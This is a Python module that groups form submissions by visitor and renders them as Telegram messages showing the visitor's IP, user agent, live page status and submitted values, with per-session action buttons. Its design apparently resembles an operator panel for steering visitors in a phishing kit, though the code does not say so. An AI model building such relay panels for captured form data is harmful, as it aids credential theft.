"""Per-visitor notification batches and their Telegram rendering."""

from dataclasses import asdict, dataclass, field
from datetime import datetime
from html import escape
from typing import Iterable, Optional

from forms_approval.logging_config import get_logger
from forms_approval.models import Submission
from forms_approval.services.action_token import DELETE_VERB, ActionToken
from forms_approval.services.keyed_store import KeyedStore, batch_key, status_key

logger = get_logger("notification_service")

DEFAULT_BATCH_TTL_SECONDS = 3600
SEPARATOR = "─────────────────────"
DATE_FORMAT = "%Y-%m-%d %H:%M:%S"


@dataclass
class BatchEntry:
    submission_id: int
    form_name: str
    fields: list[str]
    created_at: str
    user_agent: str = "Unknown"

    @classmethod
    def from_submission(cls, submission: Submission, user_agent: str) -> "BatchEntry":
        created_at = submission.created_at
        if isinstance(created_at, datetime):
            created_at = created_at.strftime(DATE_FORMAT)
        return cls(
            submission_id=submission.id,
            form_name=submission.form_name,
            fields=list(submission.fields or []),
            created_at=str(created_at),
            user_agent=user_agent,
        )


@dataclass
class PendingBatch:
    submissions: list[BatchEntry] = field(default_factory=list)
    message_id: Optional[int] = None
    user_agent: str = "Unknown"
    # secondary chat id -> message id in that chat; ids are per chat
    mirror_message_ids: dict[str, int] = field(default_factory=dict)

    def to_dict(self) -> dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: dict) -> "PendingBatch":
        return cls(
            submissions=[BatchEntry(**entry) for entry in data.get("submissions", [])],
            message_id=data.get("message_id"),
            user_agent=data.get("user_agent") or "Unknown",
            mirror_message_ids=dict(data.get("mirror_message_ids") or {}),
        )


@dataclass(frozen=True)
class FormattedMessage:
    text: str
    status: str
    reply_markup: Optional[dict] = None


def load_batch(store: KeyedStore, visitor_identity: str) -> Optional[PendingBatch]:
    data = store.get(batch_key(visitor_identity))
    if not data:
        return None
    return PendingBatch.from_dict(data)


def save_batch(
    store: KeyedStore, visitor_identity: str, batch: PendingBatch, ttl_seconds: int = DEFAULT_BATCH_TTL_SECONDS
) -> None:
    store.set(batch_key(visitor_identity), batch.to_dict(), ttl_seconds)


def clear_batch(store: KeyedStore, visitor_identity: str) -> None:
    store.delete(batch_key(visitor_identity), status_key(visitor_identity))


def enqueue(
    store: KeyedStore,
    visitor_identity: str,
    entry: BatchEntry,
    user_agent: str,
    ttl_seconds: int = DEFAULT_BATCH_TTL_SECONDS,
) -> PendingBatch:
    """Append a submission to the visitor's batch, creating it if absent. Refreshes TTL."""
    batch = load_batch(store, visitor_identity) or PendingBatch(user_agent=user_agent)
    batch.submissions.append(entry)
    save_batch(store, visitor_identity, batch, ttl_seconds)
    logger.info(
        "Added submission to pending notifications",
        extra={"context": {"submission_id": entry.submission_id, "visitor": visitor_identity}},
    )
    return batch


def status_line(online: bool, current_page: str) -> str:
    return f"Online - {current_page}" if online else "Offline"


def build_keyboard(buttons: Iterable[str], session_id: Optional[str]) -> Optional[dict]:
    if not session_id:
        return None
    row = [
        {"text": name, "callback_data": ActionToken.for_button(name, session_id).encode()}
        for name in buttons
        if name and name.strip()
    ]
    row.append({"text": "Delete", "callback_data": ActionToken(DELETE_VERB, session_id).encode()})
    return {"inline_keyboard": [row]}


def render(
    visitor_identity: str,
    batch: PendingBatch,
    online: bool,
    current_page: str,
    keyboard: Optional[dict] = None,
) -> FormattedMessage:
    """Render the batch as one HTML message. Does not touch the batch."""
    status = status_line(online, current_page)
    lines = [
        f"🌐 Visitor IP: {escape(visitor_identity)}",
        f"👤 User Agent: {escape(batch.user_agent)}",
        SEPARATOR,
        f"💡 Status: {escape(status)}",
        SEPARATOR,
    ]
    for entry in batch.submissions:
        lines.append(f"#️⃣ Form: {escape(entry.form_name)}")
        lines.append("✅ Submitted info:")
        lines.extend(escape(value) for value in entry.fields)
        lines.append(f"📅 Date: {escape(entry.created_at)}")
        lines.append(SEPARATOR)

    return FormattedMessage(text="\n".join(lines) + "\n", status=status, reply_markup=keyboard)
